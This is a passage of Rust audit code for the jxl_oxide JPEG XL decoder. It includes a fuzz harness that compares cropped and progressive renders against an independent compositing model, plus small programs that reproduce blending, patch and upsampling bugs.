                f.ec_upsampling[e] = 1 << es;
            }
        }
        let refonly = !last && rng.chance(15);
        if refonly {
            f.frame_type = 2;
            f.save_before_ct = true;
            f.save_as_reference = rng.below(4) as u32;
            if rng.chance(50) { f.crop = Some((0, 0, rng.range(4, 30) as u32, rng.range(4, 30) as u32)); }
        } else {
            if rng.chance(60) {
                let cw = rng.range(1, 50) as u32; let ch = rng.range(1, 50) as u32;
                f.crop = Some((rng.range(-10, w as i64) as i32, rng.range(-10, h as i64) as i32, cw, ch));
            }
            let pick_mode = |rng: &mut Rng| -> u32 {
                let mut m = rng.below(5) as u32;
                if flag("NOALPHA") && (m == 2 || m == 3) { m = 1; }
                if (m == 2 || m == 3) && alphas.is_empty() && !img.ec.is_empty() { 1 } else { m }
            };
            let mk = |rng: &mut Rng| BlendSpec {
                mode: pick_mode(rng),
                alpha_channel: if alphas.is_empty() { 0 } else { alphas[rng.below(alphas.len() as u64) as usize] },
                clamp: rng.chance(50),
                source: rng.below(4) as u32,
            };
            let bad: Vec<u32> = refonly_slots.iter().map(|s| s.0).collect();
            let fix = |rng: &mut Rng, mut b: BlendSpec| { while bad.contains(&b.source) { b.source = rng.below(4) as u32; if bad.len() == 4 { break; } } b };
            f.blend = { let b = mk(rng); fix(rng, b) };
            for e in 0..img.ec.len() { f.ec_blend[e] = { let b = mk(rng); fix(rng, b) }; }
            if flag("ROOTFULL") {
                if filled.is_empty() {
                    f.crop = None; f.blend = BlendSpec::default();
                } else {
                    let pickf = |rng: &mut Rng| filled[rng.below(filled.len() as u64) as usize];
                    f.blend.source = pickf(rng);
                    for e in 0..img.ec.len() { f.ec_blend[e].source = pickf(rng); }
                }
            }
            if resets_canvas(&img, &f) && !std::env::var("ALLOW_EC_RESET").is_ok() {
                for e in 0..img.ec.len() { f.ec_blend[e] = BlendSpec::default(); }
            }
            if img.animation { f.duration = if rng.chance(60) { 1 } else { 0 }; }
            if !last { f.save_as_reference = rng.below(4) as u32; }
        }
        // patches from reference-only slots
        if !refonly_slots.is_empty() && rng.chance(40) {
            let (slot, rw, rh) = refonly_slots[rng.below(refonly_slots.len() as u64) as usize];
            let (fw, fh) = f.color_size(&img);
            let pw = rng.range(1, rw as i64) as u32; let ph = rng.range(1, rh as i64) as u32;
            let px = rng.range(0, (rw - pw) as i64) as u32; let py = rng.range(0, (rh - ph) as i64) as u32;
            if pw <= fw && ph <= fh {
                let nt = rng.range(1, 2);
                let mut targets = vec![];
                for _ in 0..nt {
                    let tx = rng.range(0, (fw - pw) as i64) as i32; let ty = rng.range(0, (fh - ph) as i64) as i32;
                    let modes = (0..1 + img.ec.len()).map(|_| rng.below(3) as u32).collect();
                    targets.push((tx, ty, modes));
                }
                f.flags |= 2;
                f.patches.push(PatchSpec { ref_idx: slot, x0: px, y0: py, width: pw, height: ph, targets });
            }
        }
        let seed = rng.next();
        let ncol = img.color_channels();
        let nodiff = !diff;
        f.fill(&img, |c, x, y| {
            let (x, y) = if nodiff && constcol && c < ncol { (0, 0) } else { (x, y) };
            let mut r = Rng(seed ^ ((c as u64) << 40) ^ ((x as u64) << 20) ^ y as u64 | 1);
            r.next(); (r.next() % 256) as i32
        });
        if refonly {
            let (fw, fh) = f.size(&img);
            refonly_slots.retain(|s| s.0 != f.save_as_reference);
            refonly_slots.push((f.save_as_reference, fw, fh));
        } else if !last && (f.duration == 0 || f.save_as_reference != 0) {
            refonly_slots.retain(|s| s.0 != f.save_as_reference);
            if !filled.contains(&f.save_as_reference) { filled.push(f.save_as_reference); }
        }
        if refonly { filled.retain(|&s| s != f.save_as_reference); }
        frames.push(f);
    }
    (img, frames)
}

/// Independent model. Returns canvas of each keyframe.
fn model(img: &ImageSpec, frames: &[FrameSpec]) -> Vec<Plane> {
    let nc = img.color_channels();
    let nch = nc + img.ec.len();
    let (w, h) = (img.width as i32, img.height as i32);
    let mut slots: [Option<Plane>; 4] = [None, None, None, None];
    let mut out = Vec::new();
    for f in frames {
        let (fw, fh) = f.size(img);
        let (x0, y0) = match (f.frame_type, f.crop) { (2, _) => (0, 0), (_, Some((x, y, _, _))) => (x, y), _ => (0, 0) };
        let mut cur = Plane { w: fw as i32, h: fh as i32, x0, y0,
            ch: f.channels.iter().map(|c| c.iter().map(|&v| v as f32 / 255.0).collect()).collect() };
        // patches
        for p in &f.patches {
            let r = slots[p.ref_idx as usize].clone().expect("patch ref");
            for (tx, ty, modes) in &p.targets {
                for c in 0..nch {
                    let mode = if c < nc { modes[0] } else { modes[1 + c - nc] };
                    for dy in 0..p.height as i32 { for dx in 0..p.width as i32 {
                        let (x, y) = (tx + dx, ty + dy);
                        if x < 0 || y < 0 || x >= cur.w || y >= cur.h { continue; }
                        let s = r.ch[c][((p.y0 as i32 + dy) * r.w + p.x0 as i32 + dx) as usize];
                        let d = &mut cur.ch[c][(y * cur.w + x) as usize];
                        match mode { 1 => *d = s, 2 => *d += s, _ => {} }
                    }}
                }
            }
        }
        let normal = f.frame_type == 0 || f.frame_type == 3;
        if !normal {
            slots[f.save_as_reference as usize] = Some(cur);
            continue;
        }
        let has_ec = !img.ec.is_empty();
        let resets = resets_canvas(img, f);
        let mut canvas = Plane { w, h, x0: 0, y0: 0, ch: vec![vec![0.0; (w * h) as usize]; nch] };
        for c in 0..nch {
            let b = if c < nc { f.blend } else { f.ec_blend[c - nc] };
            let source = if resets { 0 } else { b.source } as usize;
            let uses_alpha = has_ec && (b.mode == 2 || b.mode == 3);
            let ac = nc + b.alpha_channel as usize;
            let premul = uses_alpha && img.ec[b.alpha_channel as usize].alpha_associated;
            for y in 0..h { for x in 0..w {
                let old = slots[source].as_ref().map(|s| s.get(c, x, y)).unwrap_or(0.0);
                let inside = x >= cur.x0 && y >= cur.y0 && x < cur.x0 + cur.w && y < cur.y0 + cur.h;
                let v = if !inside { old } else {
                    let new = cur.get(c, x, y);
                    let (oa, na) = if uses_alpha {
                        let oa = slots[source].as_ref().map(|s| s.get(ac, x, y)).unwrap_or(0.0);
                        let mut na = cur.get(ac, x, y);
                        if b.clamp { na = na.clamp(0.0, 1.0); }
                        (oa, na)
                    } else { (0.0, 0.0) };
                    match b.mode {
                        0 => new,
                        1 => old + new,
                        2 if !has_ec => new,
                        3 if !has_ec => old + new,
                        2 => if c == ac {
                                let mut n = new; if b.clamp { n = n.clamp(0.0, 1.0); }
                                old + n * (1.0 - old)
                            } else if premul { new + old * (1.0 - na) } else {
                                let mixed = 1.0 - (1.0 - na) * (1.0 - oa);
                                if mixed > 0.0 { (na * new + oa * old * (1.0 - na)) / mixed } else { 0.0 }
                            },
                        3 => if c == ac { old } else { old + na * new },
                        4 => { let mut n = new; if b.clamp { n = n.clamp(0.0, 1.0); } old * n }
                        _ => unreachable!(),
                    }
                };
                canvas.ch[c][(y * w + x) as usize] = v;
            }}
        }
        let duration = if img.animation { f.duration } else { 0 };
        if !f.is_last && (duration == 0 || f.save_as_reference != 0) {
            slots[f.save_as_reference as usize] = Some(canvas.clone());
        }
        if f.is_last || duration != 0 { out.push(canvas); }
    }
    out
}

fn compare(label: &str, got: &[(usize, usize, Vec<f32>)], want: &Plane, l: i32, t: i32, rw: i32, rh: i32) -> Result<(), String> {
    if got.len() != want.ch.len() { return Err(format!("{label}: channel count {} vs {}", got.len(), want.ch.len())); }
    for (c, (gw, gh, buf)) in got.iter().enumerate() {
        if *gw as i32 != rw || *gh as i32 != rh { return Err(format!("{label}: size {gw}x{gh} vs {rw}x{rh}")); }
        for y in 0..rh { for x in 0..rw {
            let g = buf[(y * rw + x) as usize];
            let wv = want.get(c, l + x, t + y);
            if (g - wv).abs() > 2e-4 * (1.0 + wv.abs()) {
                return Err(format!("{label}: channel {c} at ({},{}) got {g} want {wv}", l + x, t + y));
            }
        }}
    }
    Ok(())
}

fn run_case(seed: u64, verbose: bool) -> Result<(), String> {
    let mut rng = Rng(seed.wrapping_mul(0x9E3779B97F4A7C15) | 1);
    let (img, frames) = gen(&mut rng);
    let bytes = encode_image(&img, &frames);
    if verbose {
        println!("image orient={} {}x{} gray={} anim={} ec={:?}", img.orientation, img.width, img.height, img.gray, img.animation, img.ec);
        for (i, f) in frames.iter().enumerate() {
            println!(" frame {i}: ycbcr={:?} epf={} ups={} ec_ups={:?} gab={} gss={} type={} crop={:?} blend={:?} ec_blend={:?} dur={} last={} save={} patches={:?}", f.do_ycbcr.then_some(f.jpeg_upsampling), f.epf_iters, f.upsampling, f.ec_upsampling, f.gab, f.group_size_shift, f.frame_type, f.crop, f.blend, f.ec_blend, f.duration, f.is_last, f.save_as_reference, f.patches);
        }
        std::fs::write(format!("/tmp/jxlv_auditF_fuzz_{seed}.jxl"), &bytes).unwrap();
    }
    let diff = flag("DIFF");
    let want = if diff {
        // plain path: fresh decoder, wide buffers, full region, only the requested keyframe rendered
        let mut v = Vec::new();
        let probe = JxlImage::builder().pool(jxl_oxide::JxlThreadPool::none()).read(&bytes[..]).map_err(|e| format!("decode error: {e}"))?;
        for k in 0..probe.num_loaded_keyframes() {
            let fresh = JxlImage::builder().pool(jxl_oxide::JxlThreadPool::none()).force_wide_buffers(true).read(&bytes[..]).unwrap();
            let r = fresh.render_frame(k).map_err(|e| format!("reference render error keyframe {k}: {e}"))?;
            let ch: Vec<Vec<f32>> = r.image_planar().into_iter().map(|fb| fb.buf().to_vec()).collect();
            let (ow, oh) = if img.orientation >= 5 { (img.height, img.width) } else { (img.width, img.height) };
            v.push(Plane { w: ow as i32, h: oh as i32, x0: 0, y0: 0, ch });
        }
        v
    } else { model(&img, &frames) };
    let mut image = if flag("PROG") {
        use jxl_oxide::InitializeResult;
        let mut uninit = JxlImage::builder().pool(jxl_oxide::JxlThreadPool::none()).build_uninit();
        let mut pos = 0usize;
        let mut image = loop {
            let n = (rng.range(12, 40) as usize).min(bytes.len() - pos);
            uninit.feed_bytes(&bytes[pos..pos + n]).map_err(|e| format!("feed error: {e}"))?;
            pos += n;
            match uninit.try_init().map_err(|e| format!("init error: {e}"))? {
                InitializeResult::NeedMoreData(u) => uninit = u,
                InitializeResult::Initialized(i) => break i,
            }
        };
        if rng.chance(30) {
            let (ow, oh) = if img.orientation >= 5 { (img.height, img.width) } else { (img.width, img.height) };
            let rw = rng.range(1, ow as i64) as u32; let rh = rng.range(1, oh as i64) as u32;
            let l = rng.range(0, (ow - rw) as i64) as u32; let t = rng.range(0, (oh - rh) as i64) as u32;
            image.set_image_region(CropInfo { left: l, top: t, width: rw, height: rh });
        }
        let maxchunk = if bytes.len() > 5000 { bytes.len() as i64 / 15 } else { 60 };
        while pos < bytes.len() {
            let n = (rng.range(1, maxchunk) as usize).min(bytes.len() - pos);
            image.feed_bytes(&bytes[pos..pos + n]).map_err(|e| format!("feed error: {e}"))?;
            pos += n;
            if rng.chance(50) {
                match image.render_loading_frame() {
                    Ok(r) => { let _ = r.image_planar(); if verbose { println!("  loading render ok at byte {pos}"); } }
                    Err(e) => { if verbose { println!("  loading render err at byte {pos}: {e}"); } }
                }
            }
        }
        image.finalize().map_err(|e| format!("finalize: {e}"))?;
        let (ow, oh) = if img.orientation >= 5 { (img.height, img.width) } else { (img.width, img.height) };
        image.set_image_region(CropInfo { left: 0, top: 0, width: ow, height: oh });
        image
    } else {
        JxlImage::builder().pool(jxl_oxide::JxlThreadPool::none()).read(&bytes[..]).map_err(|e| format!("decode error: {e}"))?
    };
    let nk = image.num_loaded_keyframes();
    if nk != want.len() { return Err(format!("keyframes {nk} vs model {}", want.len())); }
    // random API sequence
    let steps = rng.range(1, 6);
    let (ow, oh) = if img.orientation >= 5 { (img.height, img.width) } else { (img.width, img.height) };
    let (mut l, mut t, mut rw, mut rh) = (0i32, 0i32, ow as i32, oh as i32);
    for s in 0..steps {
        if flag("ONEKEY") {
            image = JxlImage::builder().pool(jxl_oxide::JxlThreadPool::none()).read(&bytes[..]).unwrap();
            if (l, t, rw, rh) != (0, 0, ow as i32, oh as i32) {
                image.set_image_region(CropInfo { left: l as u32, top: t as u32, width: rw as u32, height: rh as u32 });
            }
        }
        if rng.chance(40) {
            rw = rng.range(1, ow as i64) as i32; rh = rng.range(1, oh as i64) as i32;
            l = rng.range(0, (ow as i32 - rw) as i64) as i32; t = rng.range(0, (oh as i32 - rh) as i64) as i32;
            image.set_image_region(CropInfo { left: l as u32, top: t as u32, width: rw as u32, height: rh as u32 });
        }
        let k = rng.below(nk as u64) as usize;
        if verbose { println!("step {s}: keyframe {k} region ({l},{t},{rw},{rh})"); }
        let r = image.render_frame(k).map_err(|e| format!("step {s}: render error keyframe {k}: {e}"))?;
        let got: Vec<_> = r.image_planar().into_iter().map(|fb| (fb.width(), fb.height(), fb.buf().to_vec())).collect();
        compare(&format!("step {s} keyframe {k} region ({l},{t},{rw},{rh})"), &got, &want[k], l, t, rw, rh)?;
    }
    Ok(())
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() == 2 {
        let seed: u64 = args[1].parse().unwrap();
        println!("{:?}", run_case(seed, true));
        return;
    }
    let n: u64 = args.get(2).map(|s| s.parse().unwrap()).unwrap_or(2000);
    let start: u64 = args.get(1).map(|s| s.parse().unwrap()).unwrap_or(0);
    std::panic::set_hook(Box::new(|_| {}));
    let mut fails = 0;
    let mut kinds: std::collections::BTreeMap<String, (u64, u64)> = Default::default();
    for seed in start..start + n {
        let res = std::panic::catch_unwind(|| run_case(seed, false));
        let msg = match res { Ok(Ok(())) => continue, Ok(Err(e)) => e, Err(p) => format!("PANIC: {}", p.downcast_ref::<String>().cloned().or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string())).unwrap_or_default()) };
        fails += 1;
        let key: String = msg.split(" at (").next().unwrap().chars().filter(|c| !c.is_ascii_digit()).collect();
        let e = kinds.entry(key).or_insert((seed, 0)); e.1 += 1;
        if fails <= 15 { println!("seed {seed}: {msg}"); }
    }
    println!("total fails {fails}/{n}");
    for (k, (seed, cnt)) in kinds { println!("  [{cnt}] first seed {seed}: {k}"); }
}

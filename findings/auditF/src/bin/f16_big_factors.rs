//! single frame, extra channels with total upsampling factor 16..64 (ec_upsampling 8 + dim_shift 1..3); and several ecs with different factors
use audit_e::*;
fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 200 + 20) as i32 }
fn main() {
    let (w, h) = (80u32, 72u32);
    for (up, ecs) in [(1u32, vec![(8u32, 1u32)]), (1, vec![(8, 2)]), (2, vec![(8, 1)]), (8, vec![(8, 1)]), (1, vec![(2, 0), (1, 3)]), (2, vec![(1, 1), (4, 1), (8, 0)]), (4, vec![(2, 1), (1, 3), (8, 1)])] {
        let name = format!("up{up}_ecs{ecs:?}").replace(' ', "");
        let mut img = ImageSpec::rgb(w, h);
        for &(_, ds) in &ecs { img.ec.push(EcSpec { ty: 1, dim_shift: ds, alpha_associated: false }); }
        let mut f = FrameSpec::new(&img);
        f.upsampling = up;
        f.ec_upsampling = ecs.iter().map(|e| e.0).collect();
        f.fill(&img, pat);
        let bytes = encode_image(&img, &[f]);
        sweep(&name, &bytes, 0..w, 0..1, 1..4, 1..2, w, h);
        sweep(&format!("{name}_diag"), &bytes, 13..50, 27..40, 1..18, 3..4, w, h);
    }
}

use audit_e::*;
// Alpha coded at half resolution (ec_upsampling = 2), colour at full resolution, frame alpha-blended onto a background.
fn main() {
    let mut img = ImageSpec::rgb(32, 32);
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false; f0.save_as_reference = 0;
    f0.fill(&img, |c, _, _| if c < 3 { 50 } else { 255 });
    let mut f1 = FrameSpec::new(&img);
    f1.crop = Some((2, 2, 28, 28));
    f1.ec_upsampling = vec![2];
    f1.blend = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
    f1.ec_blend[0] = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
    // opaque in the right half of the frame, transparent in the left half
    f1.fill(&img, |c, x, _| if c < 3 { 200 } else if x >= 7 { 255 } else { 0 });
    let bytes = encode_image(&img, &[f0, f1]);
    std::fs::write("/tmp/jxlv_auditF_t12b.jxl", &bytes).unwrap();
    let image = open(&bytes);
    let full = render_planar(&image, 0);
    let (fw, _, fb) = &full[0];
    println!("full render   row 20, x=8..28: {:?}", (8..28).map(|x| to_u8(fb[20 * fw + x])).collect::<Vec<_>>());
    let r = std::panic::catch_unwind(|| {
        let mut image = open(&bytes);
        image.set_image_region(CropInfo { left: 8, top: 18, width: 20, height: 4 });
        let p = render_planar(&image, 0);
        p[0].2[2 * 20..3 * 20].iter().map(|v| to_u8(*v)).collect::<Vec<_>>()
    });
    match r { Ok(v) => println!("region render row 20, x=8..28: {v:?}"), Err(_) => println!("region render: PANIC") }
}

//! Patch scenarios: patches on frames with upsampling / dim-shifted extra channels at odd positions.
use audit_e::*;

fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 100 + 20) as i32 }

struct Cfg { up: u32, ecup: u32, ds: u32, ec_ty: u32, mode_c: u32, mode_e: u32, tx: i32, ty: i32, gab: bool }

fn build(w: u32, h: u32, c: &Cfg) -> Vec<u8> {
    let mut img = ImageSpec::rgb(w, h);
    img.ec.push(EcSpec { ty: c.ec_ty, dim_shift: c.ds, alpha_associated: false });
    let mut r = FrameSpec::new(&img);
    r.frame_type = 2; r.is_last = false; r.save_as_reference = 1; r.save_before_ct = true;
    r.crop = Some((0, 0, 8, 8));
    // the reference frame codes its ec at dim_shift resolution too
    r.fill(&img, |c, x, y| (130 + 10 * y + x + 3 * c as u32) as i32);
    let mut f = FrameSpec::new(&img);
    f.upsampling = c.up; f.ec_upsampling = vec![c.ecup]; f.gab = c.gab;
    f.flags = 2;
    f.patches.push(PatchSpec { ref_idx: 1, x0: 1, y0: 1, width: 5, height: 3, targets: vec![(c.tx, c.ty, vec![c.mode_c, c.mode_e])] });
    f.fill(&img, pat);
    encode_image(&img, &[r, f])
}

fn main() {
    let only: Option<String> = std::env::args().nth(1);
    let (w, h) = (32u32, 32u32);
    for &(up, ecup, ds) in &[(1u32, 1u32, 0u32), (1, 1, 1), (1, 2, 0), (1, 1, 2), (2, 2, 0), (2, 4, 0), (2, 1, 2), (4, 8, 0), (2, 1, 1)] {
        for &(mode_c, mode_e, ec_ty) in &[(1u32, 1u32, 1u32), (0, 0, 1), (2, 2, 1), (4, 4, 0), (1, 0, 1)] {
            for &(tx, ty) in &[(3i32, 5i32), (2, 2)] {
                for gab in [false, true] {
                    if gab && !(mode_c == 1 && mode_e == 1) { continue; }
                    let name = format!("up{up}_ecup{ecup}_ds{ds}_modes({mode_c},{mode_e})_target({tx},{ty})_gab{}", gab as u8);
                    if let Some(o) = &only { if !name.contains(o.as_str()) { continue; } }
                    let cfg = Cfg { up, ecup, ds, ec_ty, mode_c, mode_e, tx, ty, gab };
                    let bytes = match std::panic::catch_unwind(|| build(w, h, &cfg)) { Ok(b) => b, Err(_) => { println!("[{name}] encoder refused"); continue; } };
                    sweep(&name, &bytes, 0..10, 0..10, 1..9, 1..4, w, h);
                }
            }
        }
    }
}

//! Modular frames with do_ycbcr + chroma subsampling, plus gab/epf/upsampling; region sweep.
use audit_e::*;
fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 100 + 20) as i32 }
fn main() {
    let only: Option<String> = std::env::args().nth(1);
    for (w, h) in [(32u32, 32u32), (29, 27)] {
        for j in [[0u32, 0, 0], [1, 0, 1], [0, 1, 0], [2, 0, 2], [3, 0, 3], [0, 2, 0], [0, 3, 0], [1, 2, 3], [2, 1, 0]] {
            for (gab, epf, up) in [(false, 0u32, 1u32), (true, 0, 1), (false, 1, 1), (true, 3, 1), (false, 0, 2)] {
                let name = format!("ycbcr_{w}x{h}_j{}{}{}_gab{}_epf{epf}_up{up}", j[0], j[1], j[2], gab as u8);
                if let Some(o) = &only { if !name.contains(o.as_str()) { continue; } }
                let img = ImageSpec::rgb(w, h);
                let mut f = FrameSpec::new(&img);
                f.do_ycbcr = true; f.jpeg_upsampling = j; f.gab = gab; f.epf_iters = epf; f.upsampling = up;
                let bytes = match std::panic::catch_unwind(move || { f.fill(&img, pat); encode_image(&img, &[f]) }) { Ok(b) => b, Err(_) => { println!("[{name}] encoder refused"); continue; } };
                if let Err(e) = std::panic::catch_unwind(|| open(&bytes)) { println!("[{name}] decoder rejects: {}", panic_msg(e)); continue; }
                sweep(&name, &bytes, 0..9, 0..9, 1..7, 1..7, w, h);
                sweep(&format!("{name}_br"), &bytes, w - 9..w, h - 9..h, 1..7, 1..7, w, h);
            }
        }
    }
}

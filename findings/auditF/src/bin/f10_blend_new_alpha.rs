//! F1: blend(): the new frame's alpha plane is indexed with the colour channel's buffer coordinates,
//! although after upsample_nonseparable() the alpha plane (ec_upsampling 2 or dim_shift 1) only covers the
//! padded requested region while the (not upsampled) colour plane covers the whole frame.
use audit_e::*;
fn main() {
    install_quiet_hook();
    for (name, ecup, ds, two_frames) in [("single frame, alpha ec_upsampling=2", 2u32, 0u32, false), ("single frame, alpha dim_shift=1", 1, 1, false), ("two frames, alpha ec_upsampling=2", 2, 0, true), ("control: alpha at full resolution", 1, 0, false)] {
        let mut img = ImageSpec::rgb(32, 32);
        img.ec.push(EcSpec { ty: 0, dim_shift: ds, alpha_associated: false });
        let mut frames = vec![];
        if two_frames {
            let mut f0 = FrameSpec::new(&img);
            f0.is_last = false; f0.save_as_reference = 0; f0.ec_upsampling = vec![ecup];
            f0.fill(&img, |c, _, _| if c < 3 { 50 } else { 255 });
            frames.push(f0);
        }
        let mut f1 = FrameSpec::new(&img);
        f1.ec_upsampling = vec![ecup];
        f1.blend = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 }; // kBlend using extra channel 0
        f1.ec_blend[0] = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
        f1.fill(&img, |c, x, y| if c < 3 { (40 + 5 * x + y) as i32 } else { (255 * (x % 4) / 3) as i32 });
        frames.push(f1);
        let bytes = encode_image(&img, &frames);
        std::fs::write(format!("/tmp/jxlv_auditF_f10_ecup{ecup}_ds{ds}_{}.jxl", two_frames as u8), &bytes).unwrap();
        println!("{name}:");
        let full = render_region(&bytes, 0, None).expect("full render");
        for r in [(0u32, 0u32, 4u32, 4u32), (5, 0, 1, 1), (6, 0, 1, 1), (0, 6, 1, 1), (16, 16, 8, 8), (17, 13, 3, 3)] {
            let res = match render_region(&bytes, 0, Some(r)) { Ok(p) => compare_region(&full, &p, r).unwrap_or("match".into()), Err(e) => e };
            println!("  region {r:?}: {res}");
        }
        let (mut n, mut bad) = (0, 0);
        for l in 0..24 { for t in 0..24 { for (w, h) in [(1, 1), (3, 2), (8, 8)] { n += 1; let r = (l, t, w, h);
            if !matches!(render_region(&bytes, 0, Some(r)).map(|p| compare_region(&full, &p, r)), Ok(None)) { bad += 1; } } } }
        println!("  sweep left,top in 0..24, sizes 1x1/3x2/8x8: {bad} of {n} region renders fail");
    }
}

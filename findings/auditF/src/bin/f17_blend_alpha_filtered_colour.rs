//! F1 (silent variant): colour planes cover only color_padded_region (after gaborish / EPF / chroma upsampling the channel
//! is swapped for a buffer of that region) while the alpha plane covers the whole frame; blend() indexes both with the
//! colour plane's coordinates.
use audit_e::*;
fn main() {
    install_quiet_hook();
    for (name, gab, epf, ycbcr, mode) in [
        ("control: no filter, kBlend", false, 0u32, None, 2u32),
        ("gaborish, kBlend", true, 0, None, 2),
        ("gaborish, kMulAdd", true, 0, None, 3),
        ("EPF 1 iter, kBlend", false, 1, None, 2),
        ("YCbCr 4:2:0 (jpeg_upsampling 0,1,0), kBlend", false, 0, Some([0u32, 1, 0]), 2),
        ("gaborish, kBlend over opaque background frame", true, 0, None, 2),
        ("control: gaborish, kAdd (no alpha involved)", true, 0, None, 1),
    ] {
        let mut img = ImageSpec::rgb(32, 32);
        img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
        let mut f = FrameSpec::new(&img);
        f.gab = gab; f.epf_iters = epf;
        if let Some(j) = ycbcr { f.do_ycbcr = true; f.jpeg_upsampling = j; }
        f.blend = BlendSpec { mode, alpha_channel: 0, clamp: false, source: 0 };
        f.ec_blend[0] = BlendSpec { mode, alpha_channel: 0, clamp: false, source: 0 };
        // constant colour (filters are no-ops on it), alpha = ramp
        f.fill(&img, |c, x, y| if c < 3 { 200 } else { ((x * 8 + y * 3) % 256) as i32 });
        let mut frames = vec![];
        if name.contains("over opaque") {
            let mut f0 = FrameSpec::new(&img);
            f0.is_last = false; f0.save_as_reference = 0;
            f0.fill(&img, |c, _, _| if c < 3 { 50 } else { 255 });
            frames.push(f0);
        }
        frames.push(f);
        let bytes = encode_image(&img, &frames);
        std::fs::write(format!("/tmp/jxlv_auditF_f17_gab{}_epf{epf}_ycbcr{}_mode{mode}_{}.jxl", gab as u8, ycbcr.is_some() as u8, frames.len()), &bytes).unwrap();
        println!("{name}:");
        let full = render_region(&bytes, 0, None).expect("full render");
        for r in [(0u32, 0u32, 4u32, 4u32), (5, 13, 2, 3), (16, 16, 8, 8)] {
            let res = match render_region(&bytes, 0, Some(r)) { Ok(p) => compare_region(&full, &p, r).unwrap_or("match".into()), Err(e) => e };
            println!("  region {r:?}: {res}");
        }
        let (mut n, mut bad, mut pan) = (0, 0, 0);
        for l in 0..24 { for t in 0..24 { for (w, h) in [(1, 1), (3, 2), (8, 8)] { n += 1; let r = (l, t, w, h);
            match render_region(&bytes, 0, Some(r)).map(|p| compare_region(&full, &p, r)) { Ok(None) => {}, Ok(Some(_)) => bad += 1, Err(_) => pan += 1 } } } }
        println!("  sweep left,top in 0..24, sizes 1x1/3x2/8x8: of {n} region renders {pan} panic, {bad} return wrong samples");
    }
}

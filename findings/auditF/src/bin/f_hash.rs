//! prints a hash of the full render of every keyframe of the given files
use audit_e::*;
fn main() {
    install_quiet_hook();
    for p in std::env::args().skip(1) {
        let bytes = std::fs::read(&p).unwrap();
        let nk = num_keyframes(&bytes);
        let mut h: u64 = 0xcbf29ce484222325;
        for k in 0..nk {
            match render_region(&bytes, k, None) {
                Ok(planes) => for (_, _, b) in planes { for v in b { h = (h ^ v.to_bits() as u64).wrapping_mul(0x100000001b3); } },
                Err(e) => { println!("{p}: {e}"); }
            }
        }
        println!("{h:016x} {}", p.rsplit('/').next().unwrap());
    }
}

//! Patch source is a regular frame saved after colour transform (save_before_ct = false): it is rendered only for the requested region.
use audit_e::*;
fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 100 + 20) as i32 }
fn main() {
    install_quiet_hook();
    for (name, gab, sbc, up) in [("source: save_before_ct=true, gab", true, true, 1u32), ("source: save_before_ct=false, no filter", false, false, 1), ("source: save_before_ct=false, gab", true, false, 1), ("source: save_before_ct=false, upsampling 2", false, false, 2)] {
        let img = ImageSpec::rgb(64, 64);
        let mut f0 = FrameSpec::new(&img);
        f0.is_last = false; f0.save_as_reference = 1; f0.save_before_ct = sbc; f0.gab = gab; f0.upsampling = up;
        f0.fill(&img, pat);
        let mut f1 = FrameSpec::new(&img);
        f1.flags = 2;
        // copy source rect (2,2) 8x8 to target (40,40)
        f1.patches.push(PatchSpec { ref_idx: 1, x0: 2, y0: 2, width: 8, height: 8, targets: vec![(40, 40, vec![1])] });
        f1.fill(&img, |_, _, _| 7);
        let bytes = encode_image(&img, &[f0, f1]);
        println!("{name}:");
        let full = match render_region(&bytes, 0, None) { Ok(f) => f, Err(e) => { println!("  full render: {e}"); continue; } };
        for r in [(40u32, 40u32, 8u32, 8u32), (38, 41, 5, 3), (0, 0, 16, 16)] {
            let res = match render_region(&bytes, 0, Some(r)) { Ok(p) => compare_region(&full, &p, r).unwrap_or("match".into()), Err(e) => e };
            println!("  region {r:?}: {res}");
        }
    }
}

//! F3: the region kept for a blend base is padded for the BASE frame's own needs, the blend rectangle
//! (output_frame_region) for the NEW frame's needs (its upsampling factor, EPF, gaborish).
use audit_e::*;
fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31) % 100 + 20) as i32 }

fn build(bg_up: u32, bg_mode: u32, fg_up: u32, fg_epf: u32, fg_gab: bool) -> Vec<u8> {
    let img = ImageSpec::rgb(64, 64);
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false; f0.save_as_reference = 0;
    f0.upsampling = bg_up;
    f0.blend = BlendSpec { mode: bg_mode, source: 0, ..Default::default() }; // mode 1 (Add): composited onto the empty canvas
    f0.fill(&img, pat);
    let mut f1 = FrameSpec::new(&img);
    f1.upsampling = fg_up; f1.epf_iters = fg_epf; f1.gab = fg_gab;
    f1.blend = BlendSpec { mode: 1, source: 0, ..Default::default() };
    f1.fill(&img, pat);
    encode_image(&img, &[f0, f1])
}

fn main() {
    install_quiet_hook();
    for (name, bg_up, bg_mode, fg_up, fg_epf, fg_gab) in [
        ("control: bg up1 Replace, fg up1", 1u32, 0u32, 1u32, 0u32, false),
        ("a1: bg upsampling 2 (Replace, full frame), fg upsampling 8", 2, 0, 8, 0, false),
        ("a2: bg upsampling 2 (Replace, full frame), fg EPF 2 iters", 2, 0, 1, 2, false),
        ("a3: bg upsampling 2 (Replace, full frame), fg gaborish", 2, 0, 1, 0, true),
        ("b1: bg up1 blended (Add) onto empty canvas, fg upsampling 2", 1, 1, 2, 0, false),
        ("b2: bg up1 blended (Add) onto empty canvas, fg gaborish", 1, 1, 1, 0, true),
        ("b3: bg up1 blended (Add) onto empty canvas, fg up1 no filter", 1, 1, 1, 0, false),
    ] {
